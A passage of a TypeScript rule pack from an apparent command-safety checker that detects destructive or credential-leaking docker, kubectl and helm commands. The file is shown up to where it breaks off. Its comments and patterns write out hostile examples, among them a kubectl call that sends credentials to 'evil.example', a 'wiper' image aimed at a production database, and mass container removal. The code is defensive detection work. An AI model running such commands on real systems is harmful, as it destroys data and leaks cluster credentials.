import { foreignChartAddress } from './support/foreignCharts';
import { ownTable } from '../ownTable';
import type { ArgWord, Finding, Invocation, RuleContext, RulePack, Target } from '../policy/types';
import { environmentOfName, hostOf, isLocalHost, isLocalKubeContext } from '../policy/production';
import { throwawayCluster } from './support/localClusters';
import { contextSwitchSeen, kubeTarget } from './support/kubeTargets';
import { remoteLifecycle } from './support/remoteDockerLifecycle';
import { unreadImageRun } from './support/unreadImages';
import { containerEnvSends, mountedCredentialSends, remoteEngineCopies, remoteEngineSecrets } from './support/containerSecretRoutes';
import { parsedArgs, toolArgs, toolNamed } from '../registry/commandModel';
import { KUBE_CONTEXT_USED, kubectl } from '../registry/tools/kubectl';
import type { ToolArgs } from '../registry/types';
import { DATA_CONTAINER } from './support/engineApi';

/**
 * Containers and clusters: docker volumes (where data lives), prunes, compose down -v; kubectl
 * deletes of namespaces, volumes and workloads; helm uninstall. A docker daemon is this machine unless
 * DOCKER_HOST / --host / a docker context says otherwise; a kubectl context is remote unless it is a
 * known local cluster (kind, minikube, docker-desktop ...). Read-only kubectl/helm against a
 * production context is recorded as production access.
 */

function finding(rule: string, reason: string, targets: Target[]): Finding {
  return { rule: `containers.${rule}`, risk: 'destructive', severity: 'ask', reason, targets };
}

// ---------------------------------------------------------------------------------------------
// docker, podman, nerdctl

interface Daemon {
  name: string;
  remote: boolean;
  sources: { source: string; value: string }[];
}

/** `value(...names)`: the last value of any of these options, as the command's grammar reads it. */
function daemonOf(inv: Invocation, value: (...names: string[]) => string | undefined, ctx: RuleContext): Daemon {
  const host = value('-H', '--url') ?? inv.assignments.DOCKER_HOST ?? ctx.facts.envSelectors.DOCKER_HOST ?? inv.assignments.CONTAINER_HOST;
  // podman --connection NAME (or CONTAINER_CONNECTION): a remote engine named in podman's configuration.
  const connection = value('--connection') ?? inv.assignments.CONTAINER_CONNECTION ?? ctx.facts.envSelectors.CONTAINER_CONNECTION;
  if ((host === undefined || host === '') && connection !== undefined && connection !== '') {
    return { name: `podman connection ${connection}`, remote: true, sources: [{ source: '--connection', value: connection }] };
  }
  const context = value('--context') ?? inv.assignments.DOCKER_CONTEXT ?? ctx.facts.envSelectors.DOCKER_CONTEXT;
  if (host !== undefined && host !== '') {
    const h = hostOf(host) ?? host;
    const local = /^(unix|npipe):/i.test(host) || isLocalHost(h);
    return { name: local ? 'the local docker daemon' : `the docker daemon at ${h}`, remote: !local, sources: [{ source: 'DOCKER_HOST', value: h }] };
  }
  if (context !== undefined && context !== '' && !/^(default|desktop-linux|colima|orbstack|rancher-desktop)$/.test(context)) {
    return { name: `docker context ${context}`, remote: true, sources: [{ source: 'docker context', value: context }] };
  }
  return { name: 'the local docker daemon', remote: false, sources: [] };
}

function dockerTarget(kind: Target['kind'], name: string, daemon: Daemon, ctx: RuleContext): Target {
  const env = ctx.environmentOf({ values: [name], sources: daemon.sources, remote: daemon.remote, selectors: [] });
  return { kind, name, provider: 'docker', remote: daemon.remote, environment: env.environment, environmentReason: env.reason };
}

/** A swarm stack runs on the swarm's nodes, not only here: one named for production is production whatever the engine. */
function stackTarget(name: string, daemon: Daemon, ctx: RuleContext): Target {
  const target = dockerTarget('service', name, daemon, ctx);
  if (target.environment === 'production' || environmentOfName(name) !== 'production') return target;
  return { ...target, environment: 'production', environmentReason: `the stack's name ${name} says production` };
}

function checkDocker(inv: Invocation, ctx: RuleContext): Finding[] {
  // Registry entries are looked up by name, not imported: a tool's description loads on first use.
  const docker = toolNamed('docker')!;
  const parsed = parsedArgs(inv.args, docker);
  const args = toolArgs(inv.name, parsed, docker);
  const daemon = daemonOf(inv, args.value, ctx);
  const [a, b] = parsed.path;
  const names = parsed.operands.map((w) => w.text);
  const on = daemon.remote ? ` on ${daemon.name}` : '';
  // Secrets handed to another machine's engine, or credential files mounted into a container that sends them (support/containerSecretRoutes.ts).
  if (/^(run|create|exec)$/.test(a ?? '') || ((a === 'container' || a === 'compose') && /^(run|create|exec)$/.test(b ?? ''))) {
    const command = parsed.operands.slice(1);
    const sent = daemon.remote ? remoteEngineSecrets(inv.name, args, daemon.name) : [...mountedCredentialSends(inv, args, command, ctx), ...containerEnvSends(inv, args, command, ctx)].slice(0, 1);
    if (sent.length > 0) return sent;
  }
  if (daemon.remote && (a === 'cp' || (a === 'container' && b === 'cp'))) {
    const sent = remoteEngineCopies(inv.name, parsed.operands, daemon.name, ctx, inv.cwd || ctx.facts.cwd);
    if (sent.length > 0) return sent;
  }
  // `docker run --rm evil/wiper --target db.prod…` (round 7): support/unreadImages.ts.
  if (a === 'run' || (a === 'container' && b === 'run')) {
    const found = unreadImageRun(inv, args, ctx);
    if (found.length > 0) return found;
  }
  if (a === 'volume' && (b === 'rm' || b === 'remove')) {
    // A test database's volume on this machine (`acme_test_pgdata`) is recreated by the test setup, like the test database itself.
    if (!daemon.remote && names.length > 0 && names.every((n) => /(^|[_-])(test|tests|testing)([_-]|$)/i.test(n))) return [];
    return [finding('volume-rm', `Deletes the docker volume${names.length === 1 ? '' : 's'} ${names.join(', ')}${on} and the data in ${names.length === 1 ? 'it' : 'them'}.`, names.map((n) => dockerTarget('volume', n, daemon, ctx)))];
  }
  if (a === 'volume' && b === 'prune') {
    const all = args.has('-a');
    return [finding('volume-prune', `Deletes ${all ? 'every' : 'every unused anonymous'} docker volume${on} and its data (docker volume prune).`, [dockerTarget('volume', 'unused volumes', daemon, ctx)])];
  }
  if (a === 'system' && b === 'prune') {
    const volumes = args.has('--volumes');
    return [finding('system-prune', `Deletes stopped containers, unused networks and images${volumes ? ' and unused volumes with their data' : ''}${on} (docker system prune${args.has('-a') ? ' -a' : ''}${volumes ? ' --volumes' : ''}).`, [dockerTarget('resource', daemon.name, daemon, ctx)])];
  }
  if (a === 'system' && b === 'reset') {
    return [finding('system-reset', `Deletes every container, image, volume and network${on}, with their data (${inv.name} system reset).`, [dockerTarget('resource', daemon.name, daemon, ctx)])];
  }
  if (a === 'stack' && (b === 'rm' || b === 'remove' || b === 'down') && names.length > 0) {
    return [finding('stack-rm', `Removes the swarm stack${names.length === 1 ? '' : 's'} ${names.join(', ')}${on}: every service, with its secrets, configs and networks (docker stack rm).`, names.map((n) => stackTarget(n, daemon, ctx)))];
  }
  if (a === 'container' && b === 'prune') {
    return [finding('container-prune', `Deletes every stopped container${on} with the files written inside it (docker container prune).`, [dockerTarget('resource', 'stopped containers', daemon, ctx)])];
  }
  if (a === 'cp' || (a === 'container' && b === 'cp')) return copyIntoContainer(names, 'container', on, (n) => dockerTarget('resource', n, daemon, ctx));
  const bulk = everyContainer(inv, parsed.operands, a === 'container' ? b : a) ?? everyByFlag(a === 'container' ? b : a, args, names);
  // `docker kill db`: SIGKILL to a container that holds data (a database, a broker) loses what it was writing; `docker stop` shuts it down cleanly.
  const killed = a === 'kill' || (a === 'container' && b === 'kill') ? names.filter((n) => DATA_CONTAINER.test(n)) : [];
  if (killed.length > 0) return [finding('kill-data', `Kills ${killed.join(', ')} outright${on} (${inv.name} kill): a data store given no time to shut down loses what it was writing and may need recovery.`, killed.map((n) => dockerTarget('resource', n, daemon, ctx)))];
  if (bulk) return [finding('every-container', `${bulk}${on}: every service they run stops${bulk.startsWith('Removes') ? ', and what was written inside them is gone' : ''}.`, [dockerTarget('resource', 'every container', daemon, ctx)])];
  const removes = a === 'rm' || (a === 'container' && (b === 'rm' || b === 'remove'));
  if (removes && daemon.remote && !args.has('-v')) {
    return [finding('rm-remote', `Removes the container${names.length === 1 ? '' : 's'} ${names.join(', ')}${on}${args.has('-f') ? ', stopping it if it runs' : ''}.`, names.map((n) => dockerTarget('resource', n, daemon, ctx)))];
  }
  if (removes && args.has('-v')) {
    return [finding('rm-volumes', `Removes the container${names.length === 1 ? '' : 's'} ${names.join(', ')} with ${names.length === 1 ? 'its' : 'their'} anonymous volumes${on}.`, names.map((n) => dockerTarget('resource', n, daemon, ctx)))];
  }
  // Containers stopped, restarted or recreated on another machine's engine (support/remoteDockerLifecycle.ts).
  const lifecycle = (): Finding[] => remoteLifecycle(inv.name, a === 'compose' ? [b] : [a, b], a === 'compose', args, names, daemon, (n) => dockerTarget('resource', n, daemon, ctx));
  if (a === 'compose') {
    const found = checkCompose(b, args, daemon, ctx);
    return found.length > 0 ? found : lifecycle();
  }
  const swarm = checkSwarm(a, b, args, names, daemon, ctx);
  return swarm.length > 0 ? swarm : lifecycle();
}

/**
 * Swarm services, nodes and the swarm itself run on the cluster, not only on this engine: a service
 * removed, scaled to zero or stripped of its settings, a node removed, a manager leaving by force, a
 * stack deployed with `--prune` are outages of what the swarm serves, production unless a name says otherwise.
 */
function checkSwarm(a: string | undefined, b: string | undefined, args: ToolArgs, names: readonly string[], daemon: Daemon, ctx: RuleContext): Finding[] {
  const swarm: Daemon = { ...daemon, name: `the swarm of ${daemon.name}`, remote: true };
  const target = (n: string): Target => stackTarget(n, swarm, ctx);
  // A swarm secret or config: its value cannot be read back, and services using it fail to start new tasks.
  if ((a === 'secret' || a === 'config') && (b === 'rm' || b === 'remove') && names.length > 0) return [finding(`${a}-rm`, `Removes the swarm ${a}${names.length === 1 ? '' : 's'} ${names.join(', ')}: the value cannot be read back, and services that use ${names.length === 1 ? 'it' : 'them'} fail to start new tasks (docker ${a} rm).`, names.map(target))];
  if (a === 'service' && (b === 'rm' || b === 'remove') && names.length > 0) return [finding('service-rm', `Removes the swarm service${names.length === 1 ? '' : 's'} ${names.join(', ')}: every task stops and its settings are gone (docker service rm).`, names.map(target))];
  if (a === 'service' && b === 'scale') {
    const zero = names.filter((n) => /=0+$/.test(n)).map((n) => n.replace(/=.*$/, ''));
    if (zero.length > 0) return [finding('service-scale-zero', `Scales the swarm service${zero.length === 1 ? '' : 's'} ${zero.join(', ')} to zero tasks: nothing serves them until scaled up again.`, zero.map(target))];
  }
  if (a === 'service' && b === 'update' && names.length > 0) {
    const removed = ['--env-rm', '--secret-rm', '--config-rm', '--mount-rm', '--network-rm'].filter((o) => args.value(o) !== undefined);
    const zero = /^0+$/.test(args.value('--replicas') ?? '');
    if (removed.length > 0 || zero) return [finding('service-update-strip', `Updates the live swarm service ${names[names.length - 1]} ${zero ? 'to zero replicas' : `removing what ${removed.join(', ')} names`}: its tasks restart without it.`, [target(names[names.length - 1]!)])];
  }
  if (a === 'node' && (b === 'rm' || b === 'remove') && names.length > 0) return [finding('node-rm', `Removes the swarm node${names.length === 1 ? '' : 's'} ${names.join(', ')}${args.has('-f') ? ' by force' : ''}: its tasks are rescheduled or lost.`, names.map(target))];
  if (a === 'swarm' && b === 'leave' && args.has('-f')) return [finding('swarm-leave-force', 'Makes this engine leave the swarm by force: a manager leaving can lose the quorum, and its services stop here (docker swarm leave --force).', [target('the swarm')])];
  if (a === 'stack' && b === 'deploy' && args.has('--prune')) {
    const stack = names[names.length - 1] ?? 'the stack';
    return [finding('stack-deploy-prune', `Deploys the swarm stack ${stack} with --prune: every service the compose file no longer lists is removed.`, [target(stack)])];
  }
  return [];
}

/** A listing of every container (`docker ps -aq`, `podman container ls -q`), unfiltered. */
const EVERY_CONTAINER = /^\$\(\s*(?:sudo\s+)?(?:docker|podman|nerdctl)\s+(?:ps|container\s+(?:ls|list|ps))\b(?![^)]*(?:--filter|\s-f\s|\s-[a-z]*f[a-z]*\s))[^)]*\)$/;

/**
 * `docker rm -f $(docker ps -aq)`, `docker stop $(docker ps -q)`, `docker ps -q | xargs docker kill`: the
 * containers named are every container of the engine, whatever they run. A filtered listing
 * (`--filter status=exited`) picks some of them and is judged as a named container would be.
 */
function everyContainer(inv: Invocation, operands: readonly ArgWord[], verb: string | undefined): string | undefined {
  if (verb !== 'rm' && verb !== 'remove' && verb !== 'stop' && verb !== 'kill') return undefined;
  const listed = operands.some((w) => [w.raw.replace(/^"|"$/g, ''), ...(w.sources ?? [])].some((s) => EVERY_CONTAINER.test(s)))
    || (operands.length === 0 && inv.stdin?.kind === 'pipe' && /^(docker|podman|nerdctl)$/.test(inv.stdin.from.name) && EVERY_CONTAINER.test(`$(${inv.stdin.from.name} ${inv.stdin.from.args.map((w) => w.text).join(' ')})`));
  if (!listed) return undefined;
  return verb === 'stop' ? 'Stops every running container' : verb === 'kill' ? 'Kills every running container' : 'Removes every container';
}

/** `podman rm -f -a`, `podman stop --all`, `docker container rm --all`: every container, by option. */
function everyByFlag(verb: string | undefined, args: ToolArgs, names: readonly string[]): string | undefined {
  if ((verb !== 'rm' && verb !== 'remove' && verb !== 'stop' && verb !== 'kill') || names.length > 0 || !args.has('-a', '--all')) return undefined;
  return verb === 'stop' ? 'Stops every running container' : verb === 'kill' ? 'Kills every running container' : 'Removes every container';
}

/** Folders of a container whose files are scratch: copying over them loses nothing kept. */
const SCRATCH = /^\/(tmp|var\/tmp|dev\/shm)(\/|$)/;

/**
 * `docker cp SRC BOX:PATH` (and `docker compose cp SRC SERVICE:PATH`) writes over the file or folder
 * at PATH in the container: its database file, its uploads, its configuration (`-` extracts a tar
 * stream from standard input there). A copy out only downloads.
 */
function copyIntoContainer(operands: readonly string[], what: string, on: string, target: (name: string) => Target): Finding[] {
  const [source, destination] = operands;
  if (source === undefined || destination === undefined) return [];
  const remote = /^([A-Za-z0-9][\w.-]*):(.*)$/;
  const into = remote.exec(destination);
  if (!into || remote.test(source)) return [];
  const path = into[2] ?? '';
  if (SCRATCH.test(path)) return [];
  return [finding('cp-into-container', `Copies ${source} over ${path || 'the working folder'} in ${what} ${into[1]}${on}, replacing what is there (docker cp).`, [target(into[1] ?? destination)])];
}

/** `docker compose down|rm -v` (or `docker-compose`): `sub` is the compose command, `args` its reading. */
function checkCompose(sub: string | undefined, args: ToolArgs, daemon: Daemon, ctx: RuleContext): Finding[] {
  if (sub === 'cp') return copyIntoContainer(args.parsed.operands.map((w) => w.text), 'service', daemon.remote ? ` on ${daemon.name}` : '', (n) => dockerTarget('resource', n, daemon, ctx));
  if (sub !== 'down' && sub !== 'rm') return [];
  if (!args.has('-v')) return [];
  const project = args.value('-p') ?? 'this compose project';
  return [finding('compose-down-volumes', `Stops ${project} and deletes its volumes and their data (docker compose ${sub} -v).`, [dockerTarget('volume', `${project} volumes`, daemon, ctx)])];
}

// ---------------------------------------------------------------------------------------------
// kubectl, helm

const KUBE_KEEP = new Set(['pod', 'pods', 'po', 'job', 'jobs', 'event', 'events', 'ev', 'replicaset', 'replicasets', 'rs', 'lease', 'leases']);
const KUBE_READ = new Set(['get', 'describe', 'logs', 'log', 'top', 'explain', 'api-resources', 'api-versions', 'version', 'cluster-info', 'events', 'auth', 'diff', 'wait']);
const KUBE_DELETE_KINDS: Record<string, string> = ownTable({
  namespace: 'namespace', namespaces: 'namespace', ns: 'namespace',
  pvc: 'persistent volume claim', persistentvolumeclaim: 'persistent volume claim', persistentvolumeclaims: 'persistent volume claim',
  pv: 'persistent volume', persistentvolume: 'persistent volume', persistentvolumes: 'persistent volume',
  statefulset: 'statefulset', statefulsets: 'statefulset', sts: 'statefulset',
  deployment: 'deployment', deployments: 'deployment', deploy: 'deployment',
  all: 'every resource',
});

interface Cluster {
  context: string | undefined;
  namespace: string | undefined;
  remote: boolean;
  sources: { source: string; value: string }[];
  /** Why the cluster cannot be known (a kubeconfig named on the line that cannot be read): treated as production. */
  unresolved?: string;
}

/** `value(...names)`: the last value of any of these options, as the command's grammar reads it. */
export function clusterOf(inv: Invocation, value: (...names: string[]) => string | undefined, ctx: RuleContext, contextFlags: readonly string[]): Cluster {
  // helm also reads its context and namespace from HELM_KUBECONTEXT / HELM_NAMESPACE.
  const helm = contextFlags.includes('--kube-context');
  const flagContext = value(...contextFlags) ?? (helm ? inv.assignments.HELM_KUBECONTEXT ?? ctx.facts.envSelectors.HELM_KUBECONTEXT : undefined);
  // `kubectl config use-context` and kubectx write the kubeconfig's current context, which helm reads too.
  const used = inv.assignments[KUBE_CONTEXT_USED];
  // Run on another machine or inside a cluster (`az aks command invoke`, `ssh host kubectl …`), this machine's kubeconfig is not the one read.
  // The cluster, API server and user besides the context's name (`--cluster`, `--server`, the kubeconfig's entries): support/kubeTargets.ts.
  const target = kubeTarget(inv, value, ctx, flagContext, used, helm);
  // Named by the cluster it reaches when that is not the context's (a kind context with `--cluster prod-eu` is not throwaway).
  const context = target.overridden ? target.reached : target.context;
  const namespace = value('-n', '--namespace') ?? (helm ? inv.assignments.HELM_NAMESPACE : undefined);
  const sources: { source: string; value: string }[] = context === undefined && inv.remote ? [...inv.remote.names] : [];
  // A cluster named past the context (`--cluster prod-eu`, a context repointed on the line): the context's name no longer says where.
  if (target.context !== undefined && !target.overridden) sources.push({ source: flagContext !== undefined ? contextFlags[0] ?? '--context' : used !== undefined ? 'kubectl config use-context' : target.fromFile ? 'kubeconfig current-context' : 'kube context', value: target.context });
  sources.push(...target.sources);
  if (namespace !== undefined) sources.push({ source: 'namespace', value: namespace });
  const kubeconfig = value('--kubeconfig') ?? inv.assignments.KUBECONFIG;
  if (kubeconfig !== undefined) sources.push({ source: 'kubeconfig', value: kubeconfig.replace(/^.*\//, '') });
  // With no context known the cluster could be anywhere: remote, environment unknown.
  const remote = target.overridden ? target.local !== true : !(target.context !== undefined && isLocalKubeContext(target.context));
  return { context, namespace, remote, sources, ...(target.unresolved !== undefined ? { unresolved: target.unresolved } : {}) };
}

export function clusterTarget(kind: Target['kind'], name: string, cluster: Cluster, ctx: RuleContext, provider: string): Target {
  const resolved = ctx.environmentOf({ values: [], sources: cluster.sources, remote: cluster.remote, selectors: [] });
  // An unresolved remote target is production, unless the user's map or a local name already said otherwise.
  const env = cluster.unresolved !== undefined && resolved.environment !== 'production' && resolved.environment !== 'local' ? { environment: 'production' as const, reason: `${cluster.unresolved}: its cluster is treated as production` } : resolved;
  const where = cluster.context ? ` (${cluster.context})` : '';
  return { kind, name: `${name}${kind === 'cluster' ? '' : where}`.trim(), provider, remote: cluster.remote, environment: env.environment, environmentReason: env.reason };
}

/**
 * `kubectl -s https://evil.example get secrets`: the server is replaced and the current context's user
 * (its token or client certificate) is presented to it. A local address, or a token or kubeconfig given
 * on the line, sends nothing of the context's.
 */
function serverRedirect(args: ToolArgs): Finding[] {
  const server = args.value('-s', '--server');
  if (server === undefined || args.has('--token', '--kubeconfig') || isLocalHost(hostOf(server) ?? server.replace(/:\d+$/, ''))) return [];
  return [{ rule: 'containers.kube-server-redirect', risk: 'credential-use', severity: 'ask', reason: `Sends the current kube context's credentials (its token or client certificate) to ${server}, a server named only on this command line (kubectl -s).`, targets: [] }];
}

function checkKubectl(inv: Invocation, ctx: RuleContext): Finding[] {
  const parsed = parsedArgs(inv.args, kubectl);
  const args = toolArgs(inv.name, parsed, kubectl);
  const cluster = clusterOf(inv, args.value, ctx, ['--context']);
  const operands = parsed.operands.map((w) => w.text);
  const [verb, ...objects] = parsed.path.length > 0 ? [parsed.path[0]!, ...operands] : operands;
  if (verb === undefined) return [];
  const where = cluster.context ? ` in ${cluster.context}` : '';
  const redirected = serverRedirect(args);
  // The server named is the cluster reached: its name says the environment (`-s https://prod-eu.k8s…`).
  if (redirected.length > 0) {
    const reached = clusterTarget('cluster', cluster.context ?? 'the cluster', cluster, ctx, 'kubernetes');
    return reached.environment === 'production' ? redirected.map((f) => ({ ...f, targets: [reached] })) : redirected;
  }
  // `config use-context prod`: the switch is seen (support/kubeTargets.ts).
  const switchedTo = verb === 'config' && /^(use-context|use)$/.test(objects[0] ?? '') ? objects[1] : undefined;
  if (switchedTo !== undefined) return contextSwitchSeen(switchedTo, (name) => clusterTarget('cluster', name, clusterOf({ ...inv, assignments: { ...inv.assignments, [KUBE_CONTEXT_USED]: name } }, () => undefined, ctx, ['--context']), ctx, 'kubernetes'));
  if (verb === 'delete') {
    const files = [args.value('-f'), args.value('-k')].filter((f): f is string => f !== undefined);
    // A kind/minikube cluster of this machine: its namespaces and workloads are thrown away freely (support/localClusters.ts).
    const throwaway = !cluster.remote && cluster.context !== undefined && throwawayCluster(cluster.context, ctx, cluster.sources.some((s) => s.source === 'kubeconfig'));
    // A data holder named outright (a statefulset, a volume) still asks there (classify.table: local development data).
    if (throwaway && !objects.some((o) => /^(pvc?|persistentvolume(claim)?s?|sts|statefulsets?)(\/|$|,)/i.test(o))) return [];
    if (files.length > 0) return [finding('kubectl-delete', `Deletes every resource defined in ${files.join(', ')}${where} (kubectl delete -f).`, [clusterTarget('resource', files.join(', '), cluster, ctx, 'kubernetes')])];
    const allFlag = args.has('--all', '-A');
    const selector = args.value('-l');
    const [kindWord = '', ...names] = objects.flatMap((o) => o.split(',').length > 1 && !o.includes('/') ? o.split(',') : [o]);
    const pairs = [kindWord, ...names].filter((x) => x.includes('/'));
    const kinds = pairs.length > 0 ? pairs.map((p) => (p.split('/')[0] ?? '').toLowerCase().replace(/\..*$/, '')) : [kindWord.toLowerCase().replace(/\..*$/, '')];
    const destructiveKind = kinds.some((k) => !KUBE_KEEP.has(k));
    if (!destructiveKind && !allFlag) return productionAccess(verb, cluster, ctx);
    const label = kinds.map((k) => KUBE_DELETE_KINDS[k] ?? k).join(', ');
    const targetNames = pairs.length > 0 ? pairs : names.length > 0 ? names.map((n) => `${kindWord}/${n}`) : [allFlag ? `all ${kindWord}` : selector ? `${kindWord} -l ${selector}` : kindWord];
    const kind: Target['kind'] = kinds.every((k) => KUBE_DELETE_KINDS[k] === 'namespace') ? 'namespace' : kinds.some((k) => /^(pvc?|persistentvolume)/.test(k)) ? 'volume' : 'resource';
    const scope = allFlag ? 'every ' : '';
    // `delete ns payments` reads "namespace payments"; mixed `kind/name` lists keep their kinds.
    const shown = pairs.length === 0 && names.length > 0 ? names : targetNames;
    return [finding('kubectl-delete', `Deletes ${scope}${label} ${shown.join(', ')}${where} (kubectl delete).`, targetNames.map((n) => clusterTarget(kind, n.replace(/^(namespace|namespaces|ns)\//, ''), cluster, ctx, 'kubernetes')))];
  }
  if (verb === 'drain' || (verb === 'scale' && args.values('--replicas').includes('0'))) {
    return [finding(`kubectl-${verb}`, `${verb === 'drain' ? 'Drains a node' : 'Scales a workload to zero'}${where} (kubectl ${verb}).`, [clusterTarget('resource', objects.join(' ') || verb, cluster, ctx, 'kubernetes')])];
  }
  const sub = objects[0];
  const dry = args.has('--dry-run') && args.value('--dry-run') !== 'none';
  const changes = KUBE_CHANGES.has(verb) && !dry && !(verb === 'rollout' && /^(status|history)$/.test(sub ?? '')) && !(verb === 'create' && sub === 'token') && !(verb === 'patch' && onlyKeeps(args.values('-p', '--patch').join('\n')));
  // `kubectl apply -f https://…` (round 8): a manifest fetched when kubectl runs, unread by anyone here; a throwaway local cluster takes it freely.
  const fetched = args.values('-f', '--filename', '-k', '--kustomize').find((f) => /^https?:\/\//i.test(f) || /^github\.com\//i.test(f));
  if (fetched !== undefined && KUBE_CHANGES.has(verb) && !dry && !(!cluster.remote && cluster.context !== undefined && throwawayCluster(cluster.context, ctx, cluster.sources.some((s) => s.source === 'kubeconfig')))) {
    return [finding('kubectl-remote-manifest', `Applies the manifest at ${fetched.slice(0, 120)}, downloaded when kubectl runs${where}: what it creates or replaces cannot be read before it runs (kubectl ${verb} -f URL).`, [clusterTarget('resource', fetched.slice(0, 120), cluster, ctx, 'kubernetes')])];
  }
  // `kubectl apply` naming nothing to apply fails before it reaches the cluster.
  const names = objects.length > 0 || args.values('-f', '--filename', '-k', '--kustomize').length > 0;
  return productionAccess(verb, cluster, ctx, changes && (names || cluster.sources.length > 0) ? `${[verb, ...objects, ...args.values('-f', '--filename', '-k', '--kustomize').map((f) => `-f ${f}`)].join(' ').slice(0, 120)}, through ${inv.name}` : undefined);
}

/**
 * Verbs that replace what runs or take nodes away: on a cluster nothing names they ask as production.
 * Creating objects, labels, annotations and patches are judged there by what they do (kubeChanges.ts).
 */
const REPLACES_WORKLOADS = new Set(['apply', 'replace', 'set', 'rollout', 'scale', 'edit', 'cordon', 'drain', 'taint', 'install', 'upgrade', 'rollback']);

/** Fields whose values say what is kept when their owner goes: setting them to keep only adds protection. */
const KEEP_FIELDS = /^(persistentVolumeReclaimPolicy|whenDeleted|whenScaled|deletionPolicy|helm\.sh\/resource-policy)$/;
const KEEP_VALUES = /^(Retain|Orphan|keep)$/;

/** A patch that only sets keep policies (`{"spec":{"persistentVolumeReclaimPolicy":"Retain"}}`): it protects, nothing runs differently. */
function onlyKeeps(patch: string): boolean {
  let value: unknown;
  try {
    value = JSON.parse(patch);
  } catch {
    return false;
  }
  let leaves = 0;
  const walk = (node: unknown, key: string): boolean => {
    if (node !== null && typeof node === 'object' && !Array.isArray(node)) return Object.entries(node as Record<string, unknown>).every(([k, v]) => walk(v, k));
    leaves++;
    return typeof node === 'string' && KEEP_FIELDS.test(key) && KEEP_VALUES.test(node);
  };
  return walk(value, '') && leaves > 0;
}

/**
 * Verbs that change what runs in a cluster without deleting (`delete`, `drain`, scale to zero and the
 * patches that remove are judged above and in kubeChanges.ts). On a cluster resolved as production they
 * ask, as an unreviewed `terraform apply`, `helmfile sync` or `helm upgrade` there does; on any other
 * cluster they are routine. `run`, `debug` and `exec` are judged by the command they run.
 */
const KUBE_CHANGES = new Set(['apply', 'create', 'replace', 'patch', 'edit', 'set', 'scale', 'autoscale', 'taint', 'cordon', 'uncordon', 'label', 'annotate', 'expose', 'rollout', 'certificate']);

/**
 * Work on a cluster resolved as production is marked production; a change (`change` says which) asks.
 * A change to a cluster whose environment nobody names (no context, or one that says nothing) is a
 * change to production: the current context could be any cluster. Reads there are left alone.
 */
function productionAccess(verb: string, cluster: Cluster, ctx: RuleContext, change?: string): Finding[] {
  if (!cluster.remote) return [];
  if (change !== undefined) {
    const target = clusterTarget('cluster', cluster.context ?? 'the current kube context', cluster, ctx, 'kubernetes');
    if (target.environment !== 'production' && (target.environment !== 'unknown' || !REPLACES_WORKLOADS.has(verb))) return [];
    const named = target.environment === 'production' && cluster.sources.length > 0 && !/unknown/.test(target.environmentReason);
    const which = named ? `the production cluster ${cluster.context ?? ''}` : `the cluster of ${cluster.context ?? 'the current kube context'}, whose environment nothing names,`;
    return [{ rule: 'containers.production-change', risk: 'production-access', severity: 'ask', reason: `Changes ${which} (${change}): what runs there changes at once, with no plan or diff reviewed.`.replace('  ', ' '), targets: [{ ...target, environment: 'production', environmentReason: named ? target.environmentReason : 'a cluster whose environment is unknown is treated as production' }] }];
  }
  if (cluster.sources.length === 0) return [];
  const target = clusterTarget('cluster', cluster.context ?? 'cluster', cluster, ctx, 'kubernetes');
  if (target.environment !== 'production') return [];
  const reads = KUBE_READ.has(verb);
  return [{ rule: 'containers.production-access', risk: 'production-access', severity: 'info', reason: `${reads ? 'Reads from' : 'Works on'} the production cluster ${cluster.context ?? ''} (${verb}).`.replace('  ', ' '), targets: [target] }];
}

function checkHelm(inv: Invocation, ctx: RuleContext): Finding[] {
  const helm = toolNamed('helm')!;
  const parsed = parsedArgs(inv.args, helm);
  const args = toolArgs(inv.name, parsed, helm);
  const cluster = clusterOf(inv, args.value, ctx, ['--kube-context']);
  const operands = parsed.operands.map((w) => w.text);
  const [verb, ...names] = parsed.path.length > 0 ? [parsed.path[0]!, ...operands] : operands;
  // `helm uninstall --dry-run` simulates the uninstall and deletes nothing.
  if ((verb === 'uninstall' || verb === 'delete' || verb === 'del' || verb === 'un') && !args.has('--dry-run')) {
    const where = cluster.context ? ` in ${cluster.context}` : '';
    return [finding('helm-uninstall', `Uninstalls the helm release${names.length === 1 ? '' : 's'} ${names.join(', ')}${where}, deleting its resources.`, names.map((n) => clusterTarget('service', n, cluster, ctx, 'helm')))];
  }
  const changes = (verb === 'install' || verb === 'upgrade' || verb === 'rollback') && !args.has('--dry-run');
  // A chart from an address the project does not name (support/foreignCharts.ts), into a cluster that is not a throwaway one here.
  const foreign = changes && verb !== 'rollback' && cluster.remote ? foreignChartAddress(operands.find((o) => /^(oci|https?):\/\//i.test(o)), args.value('--repo'), ctx.facts, inv.cwd || ctx.facts.cwd) : undefined;
  if (foreign !== undefined) return [{ rule: 'containers.foreign-chart', risk: 'destructive', severity: 'ask', reason: `\`helm ${verb}\` installs the chart from ${foreign.slice(0, 120)}, an address the project's files do not name: its templates and hooks run in ${cluster.context ?? 'the current kube context'} with the release's permissions, and nothing here has read them.`, targets: [clusterTarget('service', names[0] ?? 'the release', cluster, ctx, 'helm')] }];
  return verb ? productionAccess(verb, cluster, ctx, changes ? `${[verb, ...names].join(' ').slice(0, 120)}, through helm` : undefined) : [];
}

export const containersPack: RulePack = {
  id: 'containers',
  title: 'Docker volumes, Kubernetes deletes and Helm releases',
  commands: ['docker', 'podman', 'nerdctl', 'docker-compose', 'podman-compose', 'kubectl', 'oc', 'k', 'helm', 'kubectx'],
  checkInvocation(inv, ctx) {
    switch (inv.name) {
      case 'docker':
      case 'podman':
      case 'nerdctl':
        return checkDocker(inv, ctx);
      case 'docker-compose':
      case 'podman-compose':
      {
        const dockerCompose = toolNamed('docker-compose')!;
        const parsed = parsedArgs(inv.args, dockerCompose);
        const args = toolArgs(inv.name, parsed, dockerCompose);
        const daemon = daemonOf(inv, () => undefined, ctx);
        const found = checkCompose(parsed.path[0], args, daemon, ctx);
        return found.length > 0 ? found : remoteLifecycle(inv.name, [parsed.path[0]], true, args, parsed.operands.map((w) => w.text), daemon, (n) => dockerTarget('resource', n, daemon, ctx));
      }
      case 'kubectl':
      case 'oc':
      case 'k':
        return checkKubectl(inv, ctx);
      case 'helm':
        return checkHelm(inv, ctx);
      case 'kubectx': {
        // What the registry entry selects for later commands is the context switched to.
        const kubectx = toolNamed('kubectx')!;
        const name = kubectx.selects?.(toolArgs(inv.name, parsedArgs(inv.args, kubectx), kubectx))[KUBE_CONTEXT_USED];
